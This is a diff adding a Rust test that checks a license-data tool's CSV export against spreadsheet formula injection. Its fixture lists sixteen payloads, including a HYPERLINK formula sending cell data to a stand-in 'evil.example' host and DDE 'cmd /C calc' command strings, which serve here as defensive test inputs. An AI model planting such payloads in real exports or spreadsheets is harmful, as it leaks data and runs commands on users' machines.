@@ -467,3 +467,74 @@ fn a_bad_config_is_a_one_line_error_naming_the_key() {
     );
     assert_eq!(stderr(&o).lines().count(), 1);
 }
+
+/// Formula payloads in customer names and ids, as a spreadsheet would run them, including
+/// the ones only the sanitiser's trimming used to make live (tab, CR, space, NBSP in front).
+const FORMULAS: [&str; 16] = [
+    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")",
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "=1+1",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "\u{a0}=1+1",
+    "\u{a0}\t @SUM(1)",
+    "\n+1",
+    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
+    "-1",
+    "@",
+    "＝1+1",
+];
+
+fn hostile_csv_export(dir: &Path) -> PathBuf {
+    let items: Vec<Value> = FORMULAS
+        .iter()
+        .enumerate()
+        .map(|(i, payload)| {
+            serde_json::json!({
+                "customerName": payload,
+                "customerId": if i % 2 == 0 { format!("{payload}#{i}") } else { format!("id-{i}") },
+                "productName": "MICROSOFT 365 E3",
+                "licensesDeployed": 3,
+                "licensesSold": 5,
+                "processedDateTime": "2025-06-14T03:25:16Z",
+                "serviceName": "o365",
+                "channel": "reseller",
+                "attributes": { "objectType": "CustomerLicensesDeploymentInsights" }
+            })
+        })
+        .collect();
+    let path = dir.join("deployment.json");
+    let body = serde_json::json!([{ "totalCount": items.len(), "items": items }]);
+    std::fs::write(&path, body.to_string()).unwrap();
+    path
+}
+
+#[test]
+fn list_csv_never_starts_a_cell_with_a_formula() {
+    let dir = tempfile::tempdir().unwrap();
+    let data = hostile_csv_export(dir.path());
+    let o = uptake(&["list", "--csv", "--data", data.to_str().unwrap()]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    let mut reader = csv::Reader::from_reader(o.stdout.as_slice());
+    let mut names = 0;
+    for record in reader.records() {
+        let record = record.unwrap();
+        for (column, cell) in [
+            (0, &record[0]),
+            (1, &record[1]),
+            (9, &record[9]),
+            (10, &record[10]),
+        ] {
+            let live = cell.starts_with(['\t', '\r'])
+                || cell.trim_start().starts_with(['=', '+', '-', '@', '＝']);
+            assert!(!live, "column {column}: live formula {cell:?}");
+        }
+        assert!(record[1].starts_with('\''), "neutralised: {:?}", &record[1]);
+        names += 1;
+    }
+    assert_eq!(names, FORMULAS.len());
+}
